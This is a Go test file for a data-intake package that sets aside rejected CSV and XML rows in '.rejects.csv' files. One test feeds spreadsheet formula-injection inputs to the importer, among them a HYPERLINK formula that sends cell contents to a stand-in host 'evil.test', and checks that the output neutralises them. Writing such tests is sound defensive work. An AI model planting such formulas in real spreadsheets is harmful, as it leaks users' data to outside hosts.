package intake

import (
	"encoding/csv"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"stocktake/facts"
)

const bad = "code,title,valid_from,weight\n" +
	"N-1,Water,2025-01-01,2\n" +
	"N-2,\"Roads, \"\"all\"\"\nof them\",2025-02-01,-1\n" +
	"=N-3,Schools,2025-02-01\n"

const badSetAside = "row,column,reason,code,title,valid_from,weight\n" +
	"3,weight,the value -1 is below 0,N-2,\"Roads, \"\"all\"\"\nof them\",2025-02-01,-1\n" +
	"4,,the row has 3 cells where the header has 4; look for a missing comma or a line break outside quotes,=N-3,Schools,2025-02-01\n"

func TestRejectsHoldTheRowsAsTheyStood(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "needs.csv", "\ufeff"+bad)
	if written := setAside(t, "out", "needs.csv"); written != "out/needs.rejects.csv" {
		t.Fatal(written)
	}
	if diff := cmp.Diff(badSetAside, content(t, "out/needs.rejects.csv")); diff != "" {
		t.Fatal(diff)
	}
	if left := names(t, "out"); left != "needs.rejects.csv" {
		t.Fatal("left in the folder: ", left)
	}
}

// What is opened in a spreadsheet computes nothing: cells of a table stand as they were, and are quoted where a semicolon might end them.
func TestRejectsAreNoFormulas(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "needs.csv", "code,title,valid_from,weight\nA;=1+1,Water,2025-01-01,2\nN-2,B\t=2+2,2025-01-01,;-1\n")
	write(t, "pub.xml", `<iati-activities version="2.03">
<iati-activity><iati-identifier>=HYPERLINK("http://evil.test?"&amp;A1;"x")</iati-identifier><activity-status code="99;=1+1"/></iati-activity>
<iati-activity><iati-identifier>A;＝1+1,-</iati-identifier><activity-status code="-9"/></iati-activity>
<iati-activity><iati-identifier>GB-1</iati-identifier><activity-status code="9"/></iati-activity>
</iati-activities>`)
	setAside(t, "out", "needs.csv", "pub.xml")
	for file, want := range map[string]string{"needs.rejects.csv": cellsOfTables, "pub.xml.rejects.csv": cellsOfActivities} {
		if diff := cmp.Diff(want, content(t, "out/"+file)); diff != "" {
			t.Errorf("%s: %s", file, diff)
		}
	}
}

const cellsOfTables = "row,column,reason,code,title,valid_from,weight\n" +
	`2,code,"holds a "";""; a code may not, it separates lists","A;=1+1",Water,2025-01-01,2` + "\n" +
	`3,weight,""";'-1"" is not a number; write digits with a point, such as 1250.50",N-2,"B` + "\t=2+2\",2025-01-01,\";-1\"\n"

const cellsOfActivities = "row,column,reason,line,iati-identifier\n" +
	`1,programme,the activity has no reporting-org; it must be given (activity 1 begins in line 2),2,"'=HYPERLINK(""http://evil.test?""&A1;""x"")"` + "\n" +
	`2,programme,the activity has no reporting-org; it must be given (activity 2 begins in line 3),3,"A;'＝1+1,-"` + "\n" +
	`3,programme,the activity has no reporting-org; it must be given (activity 3 begins in line 4),4,GB-1` + "\n"

func TestRejectsAreNotWrittenWithoutARow(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "needs.csv", sound)
	if written := setAside(t, "out", "needs.csv"); written != "" {
		t.Fatal(written)
	}
	if _, err := os.Stat("out"); !os.IsNotExist(err) {
		t.Fatal("a folder was made for nothing")
	}
}

func TestRejectsOfAnEarlierImportStandUntilTheNewAreWhole(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "needs.csv", bad)
	write(t, "needs.rejects.csv", "earlier")
	files, err := Find([]string{"needs.csv"})
	if err != nil {
		t.Fatal(err)
	}
	rejects := NewRejects("", files)
	add := func() {
		if err := rejects.Add(facts.Reject{File: "needs.csv", Row: 2, Reason: "unknown code", Raw: []string{"N-1"}}); err != nil {
			t.Fatal(err)
		}
	}
	add()
	rejects.Discard()
	if got := content(t, "needs.rejects.csv"); got != "earlier" || names(t, ".") != "needs.csv needs.rejects.csv" {
		t.Fatal("after a discard: ", got, names(t, "."))
	}
	add()
	if _, err := rejects.Close(); err != nil {
		t.Fatal(err)
	}
	if got := content(t, "needs.rejects.csv"); !strings.Contains(got, "unknown code") || names(t, ".") != "needs.csv needs.rejects.csv" {
		t.Fatal("after a close: ", got, names(t, "."))
	}
}

func TestRejectsThatAKilledImportLeftAreRemoved(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "needs.csv", bad)
	files, err := Find([]string{"needs.csv"})
	if err != nil {
		t.Fatal(err)
	}
	for _, left := range []string{"out/.needs.rejects.csv.123", "out/.rates.rejects.csv.123", "out/.needs.rejects.csv.swp", "out/needs.rejects.csv"} {
		write(t, left, "said in confidence")
	}
	atWork := NewRejects("out", files)
	defer atWork.Discard()
	reject := facts.Reject{File: "needs.csv", Row: 2, Reason: "unknown code", Raw: []string{"N-1"}}
	if err := atWork.Add(reject); err != nil {
		t.Fatal(err)
	}
	NewRejects("out", files).Sweep()
	want := filepath.Base(atWork.parts["needs.csv"].file.Name()) + " .needs.rejects.csv.swp .rates.rejects.csv.123 needs.rejects.csv"
	if left := names(t, "out"); left != want {
		t.Errorf("%s, want %s", left, want)
	}
}

// An import that sweeps may find what another has just begun.
func TestRejectsAreNotSweptWhileTheyAreSetAside(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "needs.csv", bad)
	files, err := Find([]string{"needs.csv"})
	if err != nil {
		t.Fatal(err)
	}
	var others sync.WaitGroup
	defer others.Wait()
	done := make(chan struct{})
	defer close(done)
	others.Go(func() {
		for {
			select {
			case <-done:
				return
			default:
				NewRejects("out", files).Sweep()
			}
		}
	})
	for range 500 {
		rejects := NewRejects("out", files)
		if err := rejects.Add(facts.Reject{File: "needs.csv", Row: 2}); err != nil {
			t.Fatal(err)
		}
		if _, err := rejects.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

func TestAFolderThatCannotTakeRejectsIsNoticed(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "needs.csv", bad)
	write(t, "taken/needs.rejects.csv/x", "")
	if err := os.Symlink("nowhere", "link"); err != nil {
		t.Fatal(err)
	}
	files, err := Find([]string{"needs.csv"})
	if err != nil {
		t.Fatal(err)
	}
	for dir, want := range map[string]error{
		"":           nil,
		"new/below":  nil,
		"link":       fs.ErrNotExist,
		"link/below": fs.ErrNotExist,
		"needs.csv":  syscall.ENOTDIR,
		"taken":      syscall.EISDIR,
	} {
		if err := NewRejects(dir, files).Try(); !errors.Is(err, want) {
			t.Errorf("%q: %v, want %v", dir, err, want)
		}
	}
	if left := names(t, "."); left != "link needs.csv taken" {
		t.Error("left in the folder: ", left)
	}
}

func TestRejectsOfFilesOfOneNameStandApart(t *testing.T) {
	for _, test := range []struct {
		name  string
		paths []string
		want  string
	}{
		{"one folder", []string{"a/needs.csv", "a/rates.csv"}, "needs.rejects.csv rates.rejects.csv"},
		{"two folders", []string{"a/needs.csv", "b/needs.csv", "b/rates.csv"}, "a-needs.rejects.csv b-needs.rejects.csv rates.rejects.csv"},
		{"two folders of one name", []string{"a/x/needs.csv", "b/x/needs.csv"}, "a-x-needs.rejects.csv b-x-needs.rejects.csv"},
		{"a hyphen that makes two names one", []string{"a-b/needs.csv", "a/b/needs.csv", "c/b/needs.csv"}, "a-b-needs.rejects.csv other-a-b-needs.rejects.csv c-b-needs.rejects.csv"},
		{"the working folder", []string{"needs.csv", "a/needs.csv"}, "work-needs.rejects.csv a-needs.rejects.csv"},
	} {
		t.Run(test.name, func(t *testing.T) {
			work := filepath.Join(t.TempDir(), "work")
			write(t, filepath.Join(work, "start"), "")
			t.Chdir(work)
			var files []File
			for _, p := range test.paths {
				files = append(files, File{Path: p})
			}
			var got []string
			for _, p := range test.paths {
				got = append(got, rejectNames(files)[p])
			}
			if diff := cmp.Diff(test.want, strings.Join(got, " ")); diff != "" {
				t.Fatal(diff)
			}
		})
	}
}

func TestRejectsAreReadAsAnySpreadsheetWould(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "a/needs.csv", bad)
	write(t, "b/needs.csv", bad)
	if written := setAside(t, "out", "a", "b"); written != "out/a-needs.rejects.csv out/b-needs.rejects.csv" {
		t.Fatal(written)
	}
	r := csv.NewReader(strings.NewReader(content(t, "out/b-needs.rejects.csv")))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"N-2", "Roads, \"all\"\nof them", "2025-02-01", "-1"}, records[1][3:]); diff != "" {
		t.Fatal(diff)
	}
}

func TestTemplatesAreReadByTheirOwnRoom(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "new")
	if err := WriteNew(dir, Templates()); err != nil {
		t.Fatal(err)
	}
	files, err := Find([]string{dir})
	if err != nil || len(files) != len(facts.Kinds) {
		t.Fatal(len(files), err)
	}
	for _, file := range files {
		if rows, _, err := read(file); err != nil || len(rows) > 0 {
			t.Error(rows, err)
		}
	}
}

func TestTemplatesOverwriteNothing(t *testing.T) {
	t.Chdir(t.TempDir())
	write(t, "in/rates.csv", "mine")
	err := WriteNew("in", Templates())
	if err == nil || err.Error() != "in/rates.csv: this file exists, and is not overwritten; name another folder or move it away" {
		t.Fatal(err)
	}
	if content(t, "in/rates.csv") != "mine" || names(t, "in") != "rates.csv" {
		t.Fatal("something was written: ", names(t, "in"))
	}
}

// A file in a folder that is not there stands for one for which there is no room.
func TestTemplatesThatCannotAllBeWrittenLeaveNothing(t *testing.T) {
	t.Chdir(t.TempDir())
	files := []NewFile{{"needs.csv", "code\n"}, {"more/rates.csv", "code\n"}}
	if err := WriteNew("deep/down", files); !errors.Is(err, fs.ErrNotExist) || names(t, ".") != "" {
		t.Fatal(err, names(t, "."))
	}
	if err := os.MkdirAll("mine/down", 0o700); err != nil {
		t.Fatal(err)
	}
	if err := WriteNew("mine/down", files); !errors.Is(err, fs.ErrNotExist) || names(t, "mine") != "down" || names(t, "mine/down") != "" {
		t.Fatal(err, names(t, "mine"))
	}
}

// setAside reads what is found and returns the paths of the rejects that were written.
func setAside(t *testing.T, dir string, paths ...string) string {
	t.Helper()
	files, err := Find(paths)
	if err != nil {
		t.Fatal(err)
	}
	rejects := NewRejects(dir, files)
	for _, file := range files {
		if _, err := Read(file, func(facts.Row) error { return nil }, rejects.Add); err != nil {
			t.Fatal(err)
		}
	}
	written, err := rejects.Close()
	if err != nil {
		t.Fatal(err)
	}
	return strings.Join(written, " ")
}

func content(t *testing.T, path string) string {
	t.Helper()
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func names(t *testing.T, dir string) string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, e := range entries {
		all = append(all, e.Name())
	}
	return strings.Join(all, " ")
}

// Whether rows can be kept is asked before there are any, and a folder that is not needed in the end is not made.
func TestAFolderForRejectsIsTried(t *testing.T) {
	for _, test := range []struct{ sentence, dir, want string }{
		{"the working folder", "", ""},
		{"one that is there", "in", ""},
		{"one that can be made", "out/of/sight", ""},
		{"a file", "in/needs.csv", "in/needs.csv: not a directory"},
		{"one below a file", "in/needs.csv/out", "in/needs.csv/out: not a directory"},
	} {
		t.Run(test.sentence, func(t *testing.T) {
			t.Chdir(t.TempDir())
			write(t, "in/needs.csv", sound)
			got := ""
			if err := NewRejects(test.dir, nil).Try(); err != nil {
				got = err.Error()
			}
			if got != test.want {
				t.Errorf("%q, want %q", got, test.want)
			}
			if left := names(t, ".") + " " + names(t, "in"); left != "in needs.csv" {
				t.Errorf("left: %s", left)
			}
		})
	}
}
